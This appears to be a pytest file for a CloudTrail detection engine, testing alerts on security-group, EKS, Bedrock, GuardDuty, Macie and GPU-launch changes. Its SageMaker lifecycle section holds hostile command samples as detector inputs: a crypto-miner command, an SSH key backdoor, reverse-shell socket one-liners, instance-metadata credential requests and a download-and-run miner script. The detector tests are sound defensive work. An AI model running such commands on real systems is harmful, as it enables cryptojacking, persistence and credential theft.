"""Change records for network, compute-access and security-control changes (decisions/infra_records.py), and the
task-D extensions of existing rules (Macie member pause and delegated-admin removal, SageMaker lifecycle scripts)."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

import pytest
from trailguard_engine.catalog import load_catalog
from trailguard_engine.decisions.compute_gaps import script_findings
from trailguard_engine.evaluate import Evaluator
from trailguard_engine.events import CloudTrailEvent
from trailguard_engine.runtime_config import RuntimeConfig

ACCOUNT = "111122223333"
EC2 = "ec2.amazonaws.com"
R53 = "route53.amazonaws.com"
EKS = "eks.amazonaws.com"
GLUE = "glue.amazonaws.com"
BED = "bedrock.amazonaws.com"
GD = "guardduty.amazonaws.com"
MAC = "macie2.amazonaws.com"
SH = "securityhub.amazonaws.com"
SM = "sagemaker.amazonaws.com"
SLR = {
    "type": "AssumedRole",
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSServiceRoleForElasticLoadBalancing/ElasticLoadBalancing",
    "accountId": ACCOUNT,
    "sessionContext": {
        "sessionIssuer": {
            "type": "Role",
            "arn": f"arn:aws:iam::{ACCOUNT}:role/aws-service-role/elasticloadbalancing.amazonaws.com/"
            "AWSServiceRoleForElasticLoadBalancing",
        }
    },
    "invokedBy": "elasticloadbalancing.amazonaws.com",
}
#: A customer role whose name merely looks like a service-linked role: not the service, still recorded.
FAKE_SLR = {
    "type": "AssumedRole",
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSServiceRoleForElasticLoadBalancing/x",
    "accountId": ACCOUNT,
    "sessionContext": {
        "sessionIssuer": {
            "type": "Role",
            "arn": f"arn:aws:iam::{ACCOUNT}:role/AWSServiceRoleForElasticLoadBalancing",
        }
    },
}
SERVICE = {"type": "AWSService", "invokedBy": "guardduty.amazonaws.com"}
Ev = Callable[..., CloudTrailEvent]
EVALUATOR = Evaluator(load_catalog(), RuntimeConfig())


def envelope(name: str, source: str, request: Any, response: Any = None, **detail: Any) -> dict[str, Any]:
    record = {
        "eventVersion": "1.10",
        "eventName": name,
        "eventSource": source,
        "eventType": "AwsApiCall",
        "awsRegion": "us-east-1",
        "recipientAccountId": ACCOUNT,
        "sourceIPAddress": "203.0.113.10",
        "userAgent": "aws-cli/2.17.20",
        "userIdentity": {
            "type": "IAMUser",
            "arn": f"arn:aws:iam::{ACCOUNT}:user/alice",
            "accountId": ACCOUNT,
            "userName": "alice",
        },
        "requestParameters": request,
        "responseElements": response,
        "eventID": "e0000000-0000-4000-8000-00000000d00d",
        "readOnly": False,
        "managementEvent": True,
        "eventCategory": "Management",
        **detail,
    }
    return {
        "version": "0",
        "id": "e0000000-0000-4000-8000-00000000d00e",
        "detail-type": "AWS API Call via CloudTrail",
        "source": "aws." + source.split(".", maxsplit=1)[0],
        "account": ACCOUNT,
        "time": "2026-10-04T09:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": record,
    }


def fired(env: dict[str, Any]) -> dict[str, Any]:
    """rule id -> finding, for the findings that alert."""
    return {f.rule: f for f in EVALUATOR.evaluate(env).findings if f.decision in ("alert", "remediate")}


def judged(env: dict[str, Any], rule_id: str) -> Any:
    found = [f for f in EVALUATOR.evaluate(env).findings if f.rule == rule_id]
    assert len(found) == 1, f"{rule_id} does not select the event"
    return found[0]


# --------------------------------------------------------------------------- #
# infra_change_record: what is recorded, and named as what
# --------------------------------------------------------------------------- #


@pytest.mark.parametrize(
    ("rule_id", "call", "want"),
    [
        ("network-access-changed", ("AuthorizeSecurityGroupEgress", EC2, {"groupId": "sg-1"}), ("AWS::EC2::SecurityGroup", "sg-1")),
        ("network-access-changed", ("RevokeSecurityGroupIngress", EC2, {"groupId": "sg-1"}), ("AWS::EC2::SecurityGroup", "sg-1")),
        ("network-access-changed", ("DeleteNetworkAclEntry", EC2, {"networkAclId": "acl-1", "ruleNumber": 90, "egress": False}), ("AWS::EC2::NetworkAcl", "acl-1")),
        ("network-access-changed", ("DeleteNetworkAcl", EC2, {"networkAclId": "acl-1"}), ("AWS::EC2::NetworkAcl", "acl-1")),
        ("network-access-changed", ("DeleteTrafficMirrorTarget", EC2, {"DeleteTrafficMirrorTargetRequest": {"TrafficMirrorTargetId": "tmt-1"}}), ("AWS::EC2::TrafficMirrorTarget", "tmt-1")),
        ("network-access-changed", ("AssociateVPCWithHostedZone", R53, {"hostedZoneId": "Z1", "vPC": {"vPCId": "vpc-1", "vPCRegion": "us-east-1"}}), ("AWS::Route53::HostedZone", "Z1")),
        ("network-access-changed", ("CreateVPCAssociationAuthorization", R53, {"hostedZoneId": "Z1", "vPC": {"vPCId": "vpc-9"}}), ("AWS::Route53::HostedZone", "Z1")),
        ("compute-access-changed", ("ImportKeyPair", EC2, {"keyName": "k1", "publicKeyMaterial": "<sensitiveDataRemoved>"}), ("AWS::EC2::KeyPair", "k1")),
        ("compute-access-changed", ("DeleteAccessEntry", EKS, {"clusterName": "prod", "principalArn": "arn:aws:iam::111122223333:role/r"}), ("AWS::EKS::AccessEntry", "arn:aws:iam::111122223333:role/r")),
        ("compute-access-changed", ("DisassociateAccessPolicy", EKS, {"clusterName": "prod", "principalArn": "arn:aws:iam::111122223333:role/r", "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy"}), ("AWS::EKS::AccessEntry", "arn:aws:iam::111122223333:role/r")),
        ("compute-access-changed", ("DeleteDevEndpoint", GLUE, {"endpointName": "etl-dev"}), ("AWS::Glue::DevEndpoint", "etl-dev")),
        ("security-controls-changed", ("UpdateAutomatedReasoningPolicy", BED, {"policyArn": "arn:aws:bedrock:us-east-1:111122223333:automated-reasoning-policy/p"}), ("AWS::Bedrock::AutomatedReasoningPolicy", "arn:aws:bedrock:us-east-1:111122223333:automated-reasoning-policy/p")),
        ("security-controls-changed", ("PutEnforcedGuardrailConfiguration", BED, {"guardrailInferenceConfig": {"guardrailIdentifier": "gr-1", "guardrailVersion": "3"}}), ("AWS::Bedrock::Guardrail", "gr-1")),
        ("security-controls-changed", ("UpdateThreatIntelSet", GD, {"detectorId": "d", "threatIntelSetId": "t-1", "activate": False}), ("AWS::GuardDuty::ThreatIntelSet", "t-1")),
        ("security-controls-changed", ("CreateFindingsFilter", MAC, {"name": "low-noise", "action": "NOOP"}), ("AWS::Macie::FindingsFilter", "low-noise")),
        ("security-controls-changed", ("UpdateInsight", SH, {"InsightArn": "arn:aws:securityhub:us-east-1:111122223333:insight/x"}), ("AWS::SecurityHub::Insight", "arn:aws:securityhub:us-east-1:111122223333:insight/x")),
    ],
)  # fmt: skip
def test_records_name_the_resource_and_its_type(
    rule_id: str, call: tuple[str, str, dict[str, Any]], want: tuple[str, str]
) -> None:
    name, source, req = call
    rtype, rid = want
    f = fired(envelope(name, source, req)).get(rule_id)
    assert f is not None, f"{rule_id} does not record {name}"
    assert f.severity == "INFO"
    assert f.resource == {"type": rtype, "id": rid}
    assert "change record" in f.reason and "user/alice" in f.reason


def test_a_record_without_a_named_resource_still_records() -> None:
    f = fired(envelope("PutModelInvocationLoggingConfiguration", BED, {"loggingConfig": {}}))
    assert "security-controls-changed" in f
    assert f["security-controls-changed"].resource == {}


@pytest.mark.parametrize("identity", [SERVICE, SLR], ids=["aws-service", "service-linked-role"])
def test_the_services_own_changes_are_not_recorded(identity: dict[str, Any]) -> None:
    env = envelope("AuthorizeSecurityGroupIngress", EC2, {"groupId": "sg-1"}, userIdentity=identity)
    assert judged(env, "network-access-changed").decision == "skip"


def test_a_role_named_like_a_service_linked_role_is_still_recorded() -> None:
    """Only the reserved /aws-service-role/ path is the service; anyone can name a role AWSServiceRoleFor*."""
    env = envelope("AuthorizeSecurityGroupIngress", EC2, {"groupId": "sg-1"}, userIdentity=FAKE_SLR)
    assert judged(env, "network-access-changed").decision == "alert"


def test_failed_calls_are_not_records() -> None:
    env = envelope("ImportKeyPair", EC2, {"keyName": "k1"}, errorCode="Client.UnauthorizedOperation")
    assert "compute-access-changed" not in {f.rule for f in EVALUATOR.evaluate(env).findings}


@pytest.mark.parametrize("name", ["BatchUpdateFindings", "UpdateFindings"])
def test_security_hub_finding_updates_are_not_recorded(name: str) -> None:
    """Integrations update every new finding: a record per update would feed back into Security Hub."""
    env = envelope(
        name, SH, {"FindingIdentifiers": [{"Id": "f", "ProductArn": "p"}], "Workflow": {"Status": "NOTIFIED"}}
    )
    assert "security-controls-changed" not in {f.rule for f in EVALUATOR.evaluate(env).findings}


@pytest.mark.parametrize(
    "request_",
    [
        {"groupId": {"nested": "sg-evil"}, "groupName": ["a", "b"]},
        {"groupId": True},
        {"groupId": None, "GROUPID": "sg-upper"},
        None,
        {"reason": "requestParameters too large", "omitted": True},
    ],
)
def test_crafted_requests_neither_crash_nor_name_a_non_string(request_: Any) -> None:
    f = judged(envelope("AuthorizeSecurityGroupIngress", EC2, request_), "network-access-changed")
    assert f.decision == "alert"
    assert all(isinstance(v, str) for v in f.resource.values())
    assert "sg-evil" not in f.reason


def test_a_long_resource_name_is_cut() -> None:
    f = judged(envelope("ImportKeyPair", EC2, {"keyName": "k" * 5000}), "compute-access-changed")
    assert len(f.resource["id"]) <= 300 and len(f.reason) < 1000


def test_records_are_info_and_never_remediate() -> None:
    rules = {r.id: r for r in load_catalog()}
    for rid in ("security-controls-changed", "network-access-changed", "compute-access-changed"):
        r = rules[rid]
        assert r.severity == "INFO" and r.remediation is None and r.default_mode == "alert"
        assert "threshold" not in r.params


# --------------------------------------------------------------------------- #
# accelerated_instance_launch
# --------------------------------------------------------------------------- #

R_GPU = "ec2-accelerated-instance-launched"


def launch(itype: str | None, launched: list[tuple[str, str]] | None = None, **detail: Any) -> dict[str, Any]:
    req: dict[str, Any] = {"instancesSet": {"items": [{"imageId": "ami-1", "minCount": 1, "maxCount": 1}]}}
    if itype is not None:
        req["instanceType"] = itype
    resp = None
    if launched is not None:
        resp = {"instancesSet": {"items": [{"instanceId": i, "instanceType": t} for i, t in launched]}}
    return envelope("RunInstances", EC2, req, resp, **detail)


@pytest.mark.parametrize("itype", ["p4d.24xlarge", "g5.xlarge", "gr6.4xlarge", "inf2.xlarge", "trn1.32xlarge", "dl1.24xlarge", "f1.2xlarge", "vt1.3xlarge", "G6E.xlarge"])  # fmt: skip
def test_accelerated_types_are_recorded(itype: str) -> None:
    f = judged(launch(itype, [("i-1", itype)]), R_GPU)
    assert f.decision == "alert" and f.severity == "INFO"
    assert f.resource == {"type": "AWS::EC2::Instance", "id": "i-1"}


@pytest.mark.parametrize("itype", ["t3.micro", "m7i.48xlarge", "c5.large", "gp3", "", "p4d"])
def test_other_types_are_not(itype: str) -> None:
    assert judged(launch(itype, [("i-1", itype)]), R_GPU).decision == "skip"


def test_a_launch_template_cannot_hide_the_type() -> None:
    """No instanceType in the request (a launch template names it): the response's instances do."""
    env = launch(None, [("i-1", "g5.12xlarge"), ("i-2", "g5.12xlarge")])
    f = judged(env, R_GPU)
    assert f.decision == "alert" and "2 instance(s)" in f.reason and "i-1, i-2" in f.reason


def test_only_the_accelerated_instances_of_a_mixed_fleet_are_named() -> None:
    f = judged(launch(None, [("i-cpu", "m5.large"), ("i-gpu", "p5.48xlarge")]), R_GPU)
    assert "i-gpu" in f.reason and "i-cpu" not in f.reason


def test_a_large_launch_names_ten_instances() -> None:
    f = judged(launch("g4dn.xlarge", [(f"i-{n:03d}", "g4dn.xlarge") for n in range(40)]), R_GPU)
    assert "and 30 more" in f.reason and "i-039" not in f.reason


@pytest.mark.parametrize(
    "response",
    [{"instancesSet": "x"}, {"instancesSet": {"items": ["x", 1, None, {"instanceType": {"a": 1}}]}}],
)
def test_crafted_responses_do_not_crash(response: Any) -> None:
    env = envelope("RunInstances", EC2, {"instanceType": "p3.2xlarge"}, response)
    assert judged(env, R_GPU).decision == "alert"


def test_an_aws_service_identity_is_not_recorded_and_a_failure_is_the_denied_rule() -> None:
    assert judged(launch("p3.2xlarge", userIdentity=SERVICE), R_GPU).decision == "skip"
    failed = launch("p3.2xlarge", errorCode="Client.VcpuLimitExceeded")
    rules = {f.rule for f in EVALUATOR.evaluate(failed).findings}
    assert R_GPU not in rules and "ec2-gpu-instance-launch-denied" in rules


# --------------------------------------------------------------------------- #
# Macie: a member paused by the administrator, the delegated administrator removed
# --------------------------------------------------------------------------- #


def test_member_session_paused_alerts() -> None:
    f = fired(envelope("UpdateMemberSession", MAC, {"id": "444455556666", "status": "PAUSED"}))
    assert "macie-paused" in f and "444455556666" in f["macie-paused"].reason
    assert "macie-paused" not in fired(
        envelope("UpdateMemberSession", MAC, {"id": "444455556666", "status": "ENABLED"})
    )
    assert "macie-paused" in fired(envelope("UpdateMemberSession", MAC, {"id": "444455556666", "status": "paused"}))


def test_delegated_admin_removed_alerts() -> None:
    f = fired(envelope("DisableOrganizationAdminAccount", MAC, {"adminAccountId": "444455556666"}))
    assert "macie-disassociated" in f and "444455556666" in f["macie-disassociated"].reason


# --------------------------------------------------------------------------- #
# SageMaker lifecycle scripts: what task D added, and what it deliberately leaves
# --------------------------------------------------------------------------- #

#: The shape of AWS's idle auto-stop lifecycle sample: a crontab entry is routine, not a foothold.
AUTOSTOP = (
    "#!/bin/bash\nset -e\nIDLE_TIME=3600\n"
    "wget https://raw.githubusercontent.com/aws-samples/amazon-sagemaker-notebook-instance-lifecycle-config-samples/"
    "master/scripts/auto-stop-idle/autostop.py\n"
    '(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python $PWD/autostop.py --time $IDLE_TIME --ignore-connections")'
    " | crontab -\n"
)


@pytest.mark.parametrize(
    ("script", "finding"),
    [
        ("nohup /tmp/xmrig -o pool.example:3333 -u wallet &", "miner"),
        ("./run -o stratum+tcp://pool.example:4444", "miner"),
        ("echo 'ssh-ed25519 AAAA attacker' >> /home/ec2-user/.ssh/authorized_keys", "authorized_keys"),
        ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "pseudo-terminal"),
        ("ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.7\",4444)'", "socket one-liner"),
        ("php -r '$s=fsockopen(\"198.51.100.7\",4444);'", "socket one-liner"),
        ("perl -MIO::Socket -e 'IO::Socket::INET->new(\"198.51.100.7:4444\")'", "socket one-liner"),
        ('T=$(curl -X PUT http://[fd00:ec2::254]/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")', "metadata"),
        ("curl http://instance-data/latest/meta-data/iam/security-credentials/", "metadata"),
    ],
)  # fmt: skip
def test_added_footholds_found(script: str, finding: str) -> None:
    assert any(finding in f for f in script_findings(script)), script_findings(script)


@pytest.mark.parametrize(
    "script",
    [
        AUTOSTOP,
        "echo $CONF_B64 | base64 -d > /home/ec2-user/.config/app.json",
        "pip install minerva-tools && echo done",
        "jupyter labextension install @jupyterlab/git",
    ],
)
def test_routine_lifecycle_scripts_stay_quiet(script: str) -> None:
    assert script_findings(script) == []


def test_lifecycle_config_with_a_miner_alerts_end_to_end() -> None:
    content = base64.b64encode(
        b"#!/bin/bash\ncurl -so /tmp/x https://198.51.100.7/x\n/tmp/x --url stratum+ssl://p:1"
    ).decode()
    env = envelope(
        "CreateNotebookInstanceLifecycleConfig",
        SM,
        {"notebookInstanceLifecycleConfigName": "nb", "onStart": [{"content": content}]},
    )
    f = fired(env)
    assert "sagemaker-lifecycle-config-attached" in f and "miner" in f["sagemaker-lifecycle-config-attached"].reason
